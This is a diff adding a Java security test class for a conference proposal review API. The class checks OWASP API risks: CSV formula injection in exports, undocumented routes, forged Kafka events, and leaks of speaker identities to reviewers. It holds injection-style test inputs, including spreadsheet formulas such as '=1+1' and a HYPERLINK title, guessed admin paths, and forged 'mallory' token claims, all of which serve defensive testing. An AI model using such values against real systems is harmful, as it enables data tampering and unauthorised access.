+            String csv = given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/ranking" + format)
+                    .then().statusCode(200).contentType(startsWith("text/csv")).extract().asString();
+            String row = csv.lines().filter(line -> line.contains(s.p1)).findFirst().orElseThrow();
+            assertTrue(row.contains(",\"'=HYPERLINK("), "the title cell starts with a quote: " + row);
+            for (String cell : cells(csv)) {
+                String value = cell.startsWith("\"") ? cell.substring(1) : cell;
+                assertFalse(value.startsWith("=") || value.startsWith("+") || value.startsWith("@"),
+                        "a cell a spreadsheet would evaluate: " + cell + " in " + csv);
+            }
+        }
+        String selection = given().header("Authorization", organizer()).contentType("application/json")
+                .body(Map.of("capacity", Map.of("tracks", Map.of("ospo-experience", 1, "compliance-legal", 1))))
+                .post("/api/events/" + s.slug + "/selection").then().statusCode(200).extract().asString();
+        assertTrue(selection.contains(s.p1), selection);
+        String decisions = given().header("Authorization", organizer()).accept("text/csv")
+                .get("/api/events/" + s.slug + "/selection").then().statusCode(200).contentType(startsWith("text/csv"))
+                .extract().asString();
+        assertTrue(decisions.contains(",\"'=HYPERLINK("), decisions);
+        assertNoIdentity(List.of(decisions), s.identities());
+    }
+
+    // ---- API9: improper inventory management -------------------------------------------------------------
+
+    @Test
+    void api9_everyServedRouteIsInTheOpenApiDocumentAndNoUndocumentedOneAnswers() throws IOException {
+        Set<String> served = served();
+        JsonPath document = given().queryParam("format", "json").get("/q/openapi").then().statusCode(200).extract().jsonPath();
+        Set<String> documented = new TreeSet<>();
+        Map<String, Map<String, Object>> paths = document.getMap("paths");
+        paths.forEach((path, item) -> item.keySet().stream()
+                .filter(m -> Set.of("get", "put", "post", "delete", "patch").contains(m))
+                .forEach(m -> documented.add(m.toUpperCase(Locale.ROOT) + " " + path)));
+        documented.removeIf(operation -> operation.contains(" /q/"));
+        assertEquals(served, documented);
+        // Old or guessed paths are not served.
+        for (String path : List.of("/api/v0/events/x/ranking", "/api/admin", "/api/events/x/reviews", "/api/reviews")) {
+            given().header("Authorization", organizer()).get(path).then().statusCode(404).contentType(PROBLEM);
+        }
+    }
+
+    // ---- API10: unsafe consumption of APIs ---------------------------------------------------------------
+
+    @Test
+    void api10_malformedOrForgedProposalEventsAreDeadLetteredAndNeverReachReviewers() {
+        Scenario s = Scenario.create("api10-stream");
+        String forged = UUID.randomUUID().toString();
+        String broken = UUID.randomUUID().toString();
+        String valid = UUID.randomUUID().toString();
+        Stream.send("cfp.proposals", broken, "dev.lectern.proposal.submitted.v1", "{\"id\":\"" + broken + "\",\"title\":");
+        Stream.send("cfp.proposals", forged, "dev.lectern.proposal.submitted.v1",
+                Stream.proposalJson(forged, s.slug, 1, "HACKED", "Forged", "ospo-experience", "[]"));
+        Stream.proposal("submitted", valid, s.slug, 1, "SUBMITTED", "After the bad ones", "ospo-experience",
+                List.of(Map.of("name", "Later Speaker", "email", "later@speaker.test", "affiliation", "Later Org")));
+        await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
+                given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/proposals/" + valid)
+                        .then().statusCode(200));
+        given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/proposals/" + forged).then().statusCode(404);
+        given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/proposals/" + broken).then().statusCode(404);
+        Map<String, String> reasons = new HashMap<>();
+        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> {
+            reasons.putAll(deadLetters(Set.of(forged, broken)));
+            assertEquals(Set.of(forged, broken), reasons.keySet(), reasons.toString());
+        });
+        assertTrue(reasons.get(forged).contains("HACKED"), reasons.toString());
+        for (String reason : reasons.values()) {
+            assertFalse(reason.isBlank());
+        }
+    }
+
+    private static Map<String, String> deadLetters(Set<String> keys) {
+        Properties properties = new Properties();
+        properties.put(ConsumerConfig.BOOTSTRAP_SERVERS_CONFIG, TestInfrastructure.kafkaBootstrapServers());
+        properties.put(ConsumerConfig.GROUP_ID_CONFIG, "owasp-test-" + UUID.randomUUID());
+        properties.put(ConsumerConfig.AUTO_OFFSET_RESET_CONFIG, "earliest");
+        Map<String, String> found = new HashMap<>();
+        try (KafkaConsumer<String, String> consumer = new KafkaConsumer<>(properties, new StringDeserializer(), new StringDeserializer())) {
+            consumer.subscribe(List.of("cfp.proposals.dlq"));
+            Instant deadline = Instant.now().plusSeconds(10);
+            while (Instant.now().isBefore(deadline) && !found.keySet().containsAll(keys)) {
+                for (ConsumerRecord<String, String> record : consumer.poll(Duration.ofMillis(500))) {
+                    if (keys.contains(record.key())) {
+                        Header reason = record.headers().lastHeader("dead-letter-reason");
+                        found.put(record.key(), reason == null ? "" : new String(reason.value(), StandardCharsets.UTF_8));
+                    }
+                }
+            }
+        }
+        return found;
+    }
+
+    // ---- fixtures ----------------------------------------------------------------------------------------
+
+    /**
+     * An event in review: three reviewers (ra, rb, rc, each from their own university) and three proposals by
+     * speakers with telling names, emails and affiliations; p1's title is a spreadsheet formula, p2's title names
+     * its speaker and their organisation. Assigned by hand: p1 to ra and rb, p2 to rb, p3 to rc and ra.
+     */
+    static final class Scenario {
+
+        static final List<Map<String, String>> SPEAKERS = List.of(
+                Map.of("name", "Wang Xiaoming", "email", "wang.xiaoming@speaker.test", "affiliation", "Secretive Corp Ltd."),
+                Map.of("name", "Zhao Lihua", "email", "zhao.lihua@speaker.test", "affiliation", "北方研究院"),
+                Map.of("name", "Qian Duoduo", "email", "qian.duoduo@speaker.test", "affiliation", "Quiet Holdings"));
+
+        final String slug;
+        final String p1 = UUID.randomUUID().toString();
+        final String p2 = UUID.randomUUID().toString();
+        final String p3 = UUID.randomUUID().toString();
+        final Map<String, String> reviewerIds = new HashMap<>();
+        final List<String> assignmentIds = new ArrayList<>();
+
+        private Scenario(String slug) {
+            this.slug = slug;
+        }
+
+        static Scenario create(String prefix) {
+            Scenario s = new Scenario(prefix + "-" + UUID.randomUUID().toString().substring(0, 8));
+            Stream.event(s.slug, 1);
+            await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
+                    given().header("Authorization", organizer()).contentType("application/json").body(settings(2, "OPEN"))
+                            .put("/api/events/" + s.slug + "/review-settings").then().statusCode(200));
+            for (String reviewer : List.of("ra", "rb", "rc")) {
+                s.reviewerIds.put(reviewer, given().header("Authorization", organizer()).contentType("application/json")
+                        .body(s.reviewerBody(reviewer, List.of())).post("/api/events/" + s.slug + "/reviewers")
+                        .then().statusCode(201).extract().path("id"));
+            }
+            Stream.proposal("submitted", s.p1, s.slug, 1, "SUBMITTED", FORMULA_TITLE, "ospo-experience", List.of(SPEAKERS.get(0)));
+            Stream.proposal("submitted", s.p2, s.slug, 1, "SUBMITTED", "How Zhao Lihua runs compliance at 北方研究院",
+                    "compliance-legal", List.of(SPEAKERS.get(1)));
+            Stream.proposal("submitted", s.p3, s.slug, 1, "SUBMITTED", "Community building at scale", "ospo-experience",
+                    List.of(SPEAKERS.get(2)));
+            await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
+                    given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/proposals")
+                            .then().statusCode(200).body("size()", equalTo(3)));
+            for (String[] pair : List.of(new String[] {s.p1, "ra"}, new String[] {s.p1, "rb"}, new String[] {s.p2, "rb"},
+                    new String[] {s.p3, "rc"}, new String[] {s.p3, "ra"})) {
+                s.assignmentIds.add(given().header("Authorization", organizer()).contentType("application/json")
+                        .body(Map.of("proposalId", pair[0], "reviewerId", s.reviewerIds.get(pair[1])))
+                        .post("/api/events/" + s.slug + "/assignments/manual").then().statusCode(201).extract().path("id"));
+            }
+            return s;
+        }
+
+        /** Every assigned reviewer scores their proposals; a comment that looks like a formula comes along. */
+        void reviewEverything() {
+            Map<String, List<String>> assigned = Map.of("ra", List.of(p1, p3), "rb", List.of(p1, p2), "rc", List.of(p3));
+            assigned.forEach((reviewer, proposals) -> {
+                for (String proposal : proposals) {
+                    given().header("Authorization", token(reviewer)).contentType("application/json")
+                            .body(review(proposal.equals(p1) ? 5 : 3, 4, "=1+1")).put("/api/me/reviews/" + proposal)
+                            .then().statusCode(200);
+                }
+            });
+        }
+
+        String subject(String reviewer) {
+            return reviewer + "-" + slug + "@reviewers.test";
+        }
+
+        String token(String reviewer) {
+            return bearer(subject(reviewer), "reviewer:" + slug);
+        }
+
+        Map<String, Object> reviewerBody(String reviewer, List<String> conflicts) {
+            return Map.of("subject", subject(reviewer), "name", "Reviewer " + reviewer, "email", subject(reviewer),
+                    "affiliation", "Neutral University " + reviewer, "tracks", List.of(), "maxAssignments", 10,
+                    "conflicts", conflicts);
+        }
+
+        /** What must never reach a reviewer: names (and their parts), emails, affiliations. */
+        List<String> identities() {
+            return List.of("Wang Xiaoming", "Xiaoming", "wang.xiaoming", "Secretive", "Zhao Lihua", "Lihua",
+                    "北方研究院", "Qian Duoduo", "Duoduo", "Quiet Holdings", "speaker.test");
+        }
+    }
+
+    static String bearer(String subject, String... groups) {
+        return "Bearer " + TestInfrastructure.tokens().mint(subject, List.of(groups));
+    }
+
+    static String organizer() {
+        return bearer("organizer@lectern.test", "organizer");
+    }
+
+    static Map<String, Object> settings(int reviewsPerProposal, String phase) {
+        return Map.of("criteria", List.of(
+                        Map.of("key", "relevance", "name", Map.of("en", "Relevance", "zh", "相关性"), "weight", 2, "min", 1, "max", 5),
+                        Map.of("key", "clarity", "name", Map.of("en", "Clarity", "zh", "清晰度"), "weight", 1, "min", 1, "max", 5)),
+                "reviewsPerProposal", reviewsPerProposal, "phase", phase);
+    }
+
+    static Map<String, Object> review(int relevance, int clarity, String comment) {
+        return Map.of("scores", Map.of("relevance", relevance, "clarity", clarity), "comment", comment, "confidence", 3);
+    }
+
+    static String claims(String issuer, String audience, long iat, long exp, Long nbf) {
+        return "{\"iss\":\"" + issuer + "\",\"aud\":\"" + audience + "\",\"sub\":\"mallory@example.com\","
+                + "\"iat\":" + iat + ",\"exp\":" + exp + (nbf == null ? "" : ",\"nbf\":" + nbf)
+                + ",\"groups\":[\"organizer\",\"reviewer\"]}";
+    }
+
+    /** Same status, media type and body, once each answer's own id is taken out of it (the instance path). */
+    static void sameAnswer(Response forbidden, String forbiddenId, Response unknown, String unknownId) {
+        assertEquals(404, unknown.statusCode(), unknown.asString());
+        assertEquals(unknown.statusCode(), forbidden.statusCode(), forbidden.asString());
+        assertEquals(unknown.contentType(), forbidden.contentType());
+        assertEquals(unknown.asString().replace(unknownId, "{id}"), forbidden.asString().replace(forbiddenId, "{id}"));
+    }
+
+    static void assertNoIdentity(List<String> responses, List<String> identities) {
+        for (String response : responses) {
+            String lower = response.toLowerCase(Locale.ROOT);
+            for (String identity : identities) {
+                assertFalse(lower.contains(identity.toLowerCase(Locale.ROOT)),
+                        "a response names '" + identity + "': " + response);
+            }
+        }
+    }
+
+    static List<String> concat(List<String> a, List<String> b) {
+        List<String> all = new ArrayList<>(a);
+        all.addAll(b);
+        return all;
+    }
+
+    /** The cells of a CSV (quoted cells with doubled quotes and commas inside), for the formula check. */
+    static List<String> cells(String csv) {
+        List<String> cells = new ArrayList<>();
+        StringBuilder cell = new StringBuilder();
+        boolean quoted = false;
+        for (int i = 0; i < csv.length(); i++) {
+            char c = csv.charAt(i);
+            if (c == '"') {
+                quoted = !quoted;
+                cell.append(c);
+            } else if (!quoted && (c == ',' || c == '\n' || c == '\r')) {
+                cells.add(cell.toString());
+                cell.setLength(0);
+            } else {
+                cell.append(c);
+            }
+        }
+        cells.add(cell.toString());
+        return cells;
+    }
+
+    /** "GET /api/events/{event}/ranking" for every JAX-RS route of the service, from its compiled resource classes. */
+    static Set<String> served() throws IOException {
+        java.nio.file.Path classes = java.nio.file.Path.of("target", "classes");
+        Set<String> operations = new TreeSet<>();
+        try (java.util.stream.Stream<java.nio.file.Path> files = Files.walk(classes)) {
+            for (java.nio.file.Path file : files.filter(f -> f.toString().endsWith(".class")).toList()) {
+                String name = classes.relativize(file).toString().replace(java.io.File.separatorChar, '.')
+                        .replaceAll("\\.class$", "");
+                Class<?> type;
+                try {
+                    type = Class.forName(name, false, OwaspApiTop10Test.class.getClassLoader());
+                } catch (ClassNotFoundException | LinkageError e) {
+                    continue;
+                }
+                jakarta.ws.rs.Path root = type.getAnnotation(jakarta.ws.rs.Path.class);
+                if (root == null) {
+                    continue;
+                }
+                for (Method method : type.getDeclaredMethods()) {
+                    String http = null;
+                    for (Annotation annotation : method.getAnnotations()) {
+                        HttpMethod h = annotation.annotationType().getAnnotation(HttpMethod.class);
+                        if (h != null) {
+                            http = h.value();
+                        }
+                    }
+                    if (http == null) {
+                        continue;
+                    }
+                    jakarta.ws.rs.Path sub = method.getAnnotation(jakarta.ws.rs.Path.class);
+                    String path = ("/" + root.value() + "/" + (sub == null ? "" : sub.value())).replaceAll("/+", "/");
+                    operations.add(http + " " + (path.length() > 1 && path.endsWith("/") ? path.substring(0, path.length() - 1) : path));
+                }
+            }
+        }
+        return operations;
+    }
+}
